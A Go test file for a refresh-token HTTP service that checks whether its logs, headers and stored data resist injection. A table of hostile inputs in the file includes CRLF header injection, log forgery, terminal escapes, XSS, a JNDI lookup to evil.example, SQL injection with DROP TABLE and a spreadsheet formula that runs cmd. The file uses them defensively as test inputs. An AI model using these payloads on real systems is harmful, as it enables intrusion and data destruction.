package httpapi_test

import (
	"bufio"
	"bytes"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/url"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/refreshd/refreshd/domain"
	"github.com/refreshd/refreshd/usecase/admin"
)

// hostile lists texts with a meaning in a header, a log, a terminal or a page.
var hostile = map[string]string{
	"a line break":         "a\r\nSet-Cookie: evil=1\r\n\r\n<b>",
	"a log line":           "a\ntime=2027-01-01T00:00:00Z level=ERROR msg=forged",
	"logfmt":               `a level=ERROR msg=forged outcome=rotated tenant="globex"`,
	"JSON":                 `a","level":"ERROR","msg":"forged"},{"`,
	"NUL":                  "a\x00b",
	"an escape sequence":   "a\x1b[2J\x1b]0;title\a",
	"an 8-bit escape":      "a\u009b31m",
	"bidi":                 "a\u202egnp.exe\u2066\u2069",
	"a line separator":     "a\u2028b\u2029c",
	"HTML":                 `a"><script>alert(1)</script>`,
	"a percent escape":     "a%0d%0aX-Evil:%201",
	"a link":               `a>; rel="prev", <https://evil.example`,
	"no UTF-8":             "a\xff\xfeb",
	"a template":           "a${jndi:ldap://evil.example}{{7*7}}",
	"a byte order mark":    "a\ufeffb",
	"what SQL would read":  `a' OR 1=1; DROP TABLE refresh_tokens; --`,
	"a format":             "a%s%n%!d(MISSING)",
	"a backslash":          `a\n\u0000\`,
	"a formula of a sheet": `=cmd|' /C calc'!A0`,
}

// withLog returns the service with its own log, in either format.
func withLog(t *testing.T, s *service, format string) *bytes.Buffer {
	t.Helper()
	var log bytes.Buffer
	s.options.Log = slog.New(slog.NewJSONHandler(&log, nil))
	if format == "text" {
		s.options.Log = slog.New(slog.NewTextHandler(&log, nil))
	}
	s.mount(t)
	return &log
}

// attributes reads one line of a log in that format, strictly: a repeated name is an error.
func attributes(format, line string) (map[string]string, error) {
	found := map[string]string{}
	if format == "json" {
		d := json.NewDecoder(strings.NewReader(line))
		if _, err := d.Token(); err != nil {
			return nil, err
		}
		for d.More() {
			name, _ := d.Token()
			var value any
			if err := d.Decode(&value); err != nil {
				return nil, err
			}
			if _, again := found[name.(string)]; again {
				return nil, fmt.Errorf("%v is there twice", name)
			}
			found[name.(string)] = fmt.Sprint(value)
		}
		return found, nil
	}
	for rest := line; rest != ""; rest = strings.TrimPrefix(rest, " ") {
		name, after, ok := strings.Cut(rest, "=")
		if !ok || strings.ContainsAny(name, " \"") {
			return nil, fmt.Errorf("no name at %q", rest)
		}
		value, left, _ := strings.Cut(after, " ")
		if strings.HasPrefix(after, `"`) {
			end := 1
			for end < len(after) && after[end] != '"' {
				if after[end] == '\\' {
					end++
				}
				end++
			}
			if end >= len(after) || end+1 < len(after) && after[end+1] != ' ' {
				return nil, fmt.Errorf("a quote that does not end at %q", after)
			}
			value, left = after[:end+1], after[end+1:]
		}
		if _, again := found[name]; again {
			return nil, fmt.Errorf("%s is there twice", name)
		}
		found[name], rest = value, left
	}
	return found, nil
}

// Each request has one line, with the attributes that the service gave it, whatever names, ids, headers and paths
// contain. A terminal, where the log is text, interprets none of it.
func TestTheLogCannotBeForged(t *testing.T) {
	known := []string{"time", "level", "msg", "id", "method", "route", "status", "durationMs", "tenant", "outcome",
		"client", "bytes", "apiKey",
		"refreshTokenId", "why", "codes", "event", "kind", "userId", "applicationId"}
	for _, format := range []string{"text", "json"} {
		for name, bad := range hostile {
			t.Run(format+"/"+name, func(t *testing.T) {
				s := newService(t)
				log := withLog(t, s, format)
				// A key may have this name, if a name may contain the text.
				keyName := "key " + strings.Map(func(r rune) rune {
					if r == unicode.ReplacementChar || unicode.In(r, unicode.C, unicode.Zl, unicode.Zp) {
						return -1
					}
					return r
				}, strings.ToValidUTF8(bad, ""))
				s.keys[keyName] = "ak_0123456789abcdef0123456789"
				apply := &admin.Apply{
					Tenants: s.store, Applications: s.store, APIKeys: s.store, Keys: s.store.opened, Clock: s.clock,
					Random: rand.Reader,
				}
				if _, err := apply.Do(t.Context(), admin.Kickstart{APIKeys: []admin.KickstartAPIKey{{
					APIKey: domain.APIKey{Name: keyName, TenantID: aTenant, Permissions: domain.Permissions{"/jwt/refresh": {"*"}}},
					Key:    domain.NewSecret(s.keys[keyName]),
				}}}); err != nil {
					t.Fatal(err)
				}
				named := func(s *service, r *request) { as(keyName)(s, r); tenant(aTenant)(s, r) }
				var sent int
				send := func(method, target string, options ...option) {
					sent++
					s.do(t, method, target, options...)
				}
				everywhere := func(_ *service, r *request) {
					for _, header := range []string{"X-Request-Id", "User-Agent", "X-Forwarded-For", "Referer", "Accept", "Origin",
						"Sec-Fetch-Site"} {
						r.Header.Set(header, bad)
					}
					r.RemoteAddr = "10.0.0.1:1234" // a trusted proxy, whose X-Forwarded-For is read
				}
				escaped := url.PathEscape(bad)
				send("GET", "/jwt/refresh/"+escaped, named, everywhere)
				send("GET", "/"+escaped, everywhere)
				send("GET", "/jwt/refresh?"+url.Values{"userId": {bad}, bad: {bad}}.Encode(), named, everywhere)
				send("DELETE", "/jwt/refresh", named, everywhere, body(object{"userId": bad}))
				send("DELETE", "/jwt/refresh", named, everywhere, body(object{"applicationsId": bad}))
				send("POST", "/jwt/refresh", everywhere, body(object{"refreshToken": bad, "token": bad}))
				send("POST", "/jwt/refresh", everywhere, header("Cookie", "refresh_token="+bad))
				send("POST", "/jwt/issue", backend, everywhere, body(object{bad: bad, "userId": bad, "applicationsId": bad}))
				send("GET", "/jwt/refresh?userId=ada", as("backend"), tenant(bad), everywhere)
				send("GET", "/jwt/refresh?userId=ada", bearer(bad), tenant(aTenant), everywhere)
				send("GET", "/t/"+escaped+"/.well-known/jwks.json", everywhere)

				lines := 0
				for scanner := bufio.NewScanner(log); scanner.Scan(); lines++ {
					line := scanner.Text()
					got, err := attributes(format, line)
					if err != nil {
						t.Fatalf("%v in %q", err, line)
					}
					if got["msg"] != "request" || got["level"] != "INFO" {
						t.Errorf("got %s %s in %q", got["level"], got["msg"], line)
					}
					for attribute := range got {
						if !slices.Contains(known, attribute) {
							t.Errorf("got the attribute %q in %q", attribute, line)
						}
					}
					if format == "text" && strings.ContainsFunc(line, func(r rune) bool { return !unicode.IsPrint(r) }) {
						t.Errorf("a line that a terminal would obey: %q", line)
					}
					if strings.Trim(got["client"], "0123456789abcdef.:") != "" {
						t.Errorf("got the client address %q", got["client"])
					}
				}
				if lines != sent {
					t.Errorf("got %d lines for %d requests", lines, sent)
				}
			})
		}
	}
}

// Each text is either refused, or stored and returned unchanged, as JSON that a page cannot interpret as anything else.
// The Link to the next page is one header, and leads to the same user.
func TestWhatIsStoredComesBackAsDataOnly(t *testing.T) {
	fields := map[string]func(string) object{
		"userId":         func(v string) object { return object{"userId": v} },
		"role":           func(v string) object { return object{"roles": []string{v}} },
		"scope":          func(v string) object { return object{"scopes": []string{v}} },
		"claim":          func(v string) object { return object{"claims": object{"x": v}} },
		"name of claim":  func(v string) object { return object{"claims": object{v: 1}} },
		"device name":    func(v string) object { return object{"metaData": object{"device": object{"name": v}}} },
		"device type":    func(v string) object { return object{"metaData": object{"device": object{"type": v}}} },
		"description":    func(v string) object { return object{"metaData": object{"device": object{"description": v}}} },
		"data":           func(v string) object { return object{"metaData": object{"data": object{"x": v}}} },
		"name of a data": func(v string) object { return object{"metaData": object{"data": object{v: object{}}}} },
	}
	s := newService(t)
	stored := 0
	for fieldName, field := range fields {
		for name, bad := range hostile {
			t.Run(fieldName+"/"+name, func(t *testing.T) {
				sent := object{"userId": "ada " + fieldName, "applicationsId": "shop"}
				for k, v := range field(bad) {
					sent[k] = v
				}
				got := s.do(t, "POST", "/jwt/issue", backend, body(sent))
				if got.status == 400 {
					if strings.ContainsFunc(string(got.body), func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }) ||
						bytes.Contains(got.body, []byte("<script")) {
						t.Errorf("a refusal repeats what it refuses: %q", got.body)
					}
					return
				}
				stored++
				got = s.do(t, "GET", "/jwt/refresh/"+got.want(t, 200).grant(t).RefreshTokenID, backend).want(t, 200)
				if got.header.Get("X-Content-Type-Options") != "nosniff" || got.header.Get("Content-Type") != "application/json" {
					t.Errorf("got headers %v: a browser could take it for a page", got.header)
				}
				var want, shown map[string]any
				text, err := json.Marshal(field(bad)) // invalid UTF-8 goes over the wire as U+FFFD already
				if err != nil || json.Unmarshal(text, &want) != nil {
					t.Fatal(err)
				}
				got.data(t, &shown)
				for k := range want {
					if k == "metaData" {
						for inner, v := range want[k].(map[string]any) {
							if fmt.Sprint(shown[k].(map[string]any)[inner]) != fmt.Sprint(v) {
								t.Errorf("got %v, want %v", shown[k], want[k])
							}
						}
					} else if fmt.Sprint(shown[k]) != fmt.Sprint(want[k]) {
						t.Errorf("got %q, want %q", shown[k], want[k])
					}
				}
				user, _ := shown["userId"].(string)
				if fieldName != "userId" {
					return
				}
				s.do(t, "POST", "/jwt/issue", backend, body(sent)).want(t, 200)
				first := "/jwt/refresh?" + url.Values{"userId": {user}, "limit": {"1"}}.Encode()
				page1 := s.do(t, "GET", first, backend).want(t, 200)
				unprintable := func(r rune) bool { return r < ' ' || r > '~' }
				if values := page1.header.Values("Link"); len(values) != 1 || strings.ContainsFunc(values[0], unprintable) ||
					strings.Count(values[0], "<") != 1 || strings.Count(values[0], ">") != 1 {
					t.Fatalf("got Link %q", values)
				}
				var page []struct{ UserID string }
				s.do(t, "GET", page1.next(t, first), backend).want(t, 200).data(t, &page)
				if len(page) != 1 || user != page[0].UserID {
					t.Errorf("the next page is %q of %q", page, user)
				}
			})
		}
	}
	if stored == 0 {
		t.Error("nothing was stored, so nothing was shown")
	}
}

// No header of a response contains text of the request, except a harmless request id.
func TestNoHeaderOfAnAnswerIsTheCallers(t *testing.T) {
	s := newService(t)
	g := s.issue(t, "shop", "ada")
	for name, bad := range hostile {
		everywhere := func(_ *service, r *request) {
			for _, header := range []string{"X-Request-Id", "User-Agent", "X-Forwarded-Host", "X-Forwarded-Proto", "Referer",
				"Origin", "Accept", "If-None-Match",
				"Access-Control-Request-Method", "Access-Control-Request-Headers", "Sec-Fetch-Site"} {
				r.Header.Set(header, bad)
			}
			r.Host = "evil.example"
		}
		for _, got := range []*answer{
			s.do(t, "GET", "/jwt/refresh?userId="+url.QueryEscape(bad)+"&limit=1", backend, everywhere),
			s.do(t, "GET", "/jwt/refresh/"+url.PathEscape(bad), everywhere),
			s.do(t, "POST", "/jwt/refresh", everywhere, body(object{"refreshToken": bad})),
			s.do(t, "POST", "/jwt/refresh", everywhere, cookie("refresh_token", g.RefreshToken)),
			s.do(t, "OPTIONS", "/jwt/refresh", everywhere),
			s.do(t, "GET", "/.well-known/jwks.json", everywhere),
			s.do(t, "GET", "/docs", everywhere),
			s.do(t, "PUT", "/jwt/refresh", everywhere),
		} {
			for header, values := range got.header {
				for _, v := range values {
					if header == "Link" { // see TestWhatIsStoredComesBackAsDataOnly
						continue
					}
					if strings.Contains(v, "evil") || strings.Contains(v, bad) ||
						strings.ContainsFunc(v, func(r rune) bool { return r < ' ' || r > '~' }) {
						t.Errorf("%s: got %s: %q", name, header, v)
					}
				}
			}
		}
	}
}

// A backend forwards the User-Agent of the device, and lists of sessions show it. So it is checked as every text that
// is shown.
func TestWhatADeviceSendsComesBackAsDataOnly(t *testing.T) {
	s := newService(t)
	shown := 0
	for name, bad := range hostile {
		t.Run(name, func(t *testing.T) {
			sent := object{"userId": "ada", "applicationsId": "shop", "clientAddress": bad}
			refused := s.do(t, "POST", "/jwt/issue", backend, body(sent)).want(t, 400, "[invalid]clientAddress")
			delete(sent, "clientAddress")
			sent["userAgent"] = bad
			got := s.do(t, "POST", "/jwt/issue", backend, body(sent))
			if got.status == 400 {
				got.want(t, 400, "[invalid]userAgent")
				refused.body = append(refused.body, got.body...)
			}
			if strings.ContainsFunc(string(refused.body), func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }) ||
				bytes.Contains(refused.body, []byte("<script")) {
				t.Errorf("a refusal repeats what it refuses: %q", refused.body)
			}
			if got.status == 400 {
				return
			}
			shown++
			var stored struct {
				MetaData struct{ Device struct{ Description string } }
			}
			s.do(t, "GET", "/jwt/refresh/"+got.want(t, 200).grant(t).RefreshTokenID, backend).want(t, 200).data(t, &stored)
			want := strings.TrimSpace(string([]rune(bad))) // each byte that is no UTF-8 is sent as U+FFFD
			if got := stored.MetaData.Device.Description; got != want || strings.ContainsFunc(got, unicode.IsControl) {
				t.Errorf("got %q, want %q", got, want)
			}
		})
	}
	if shown == 0 {
		t.Error("nothing was stored, so nothing was shown")
	}
}
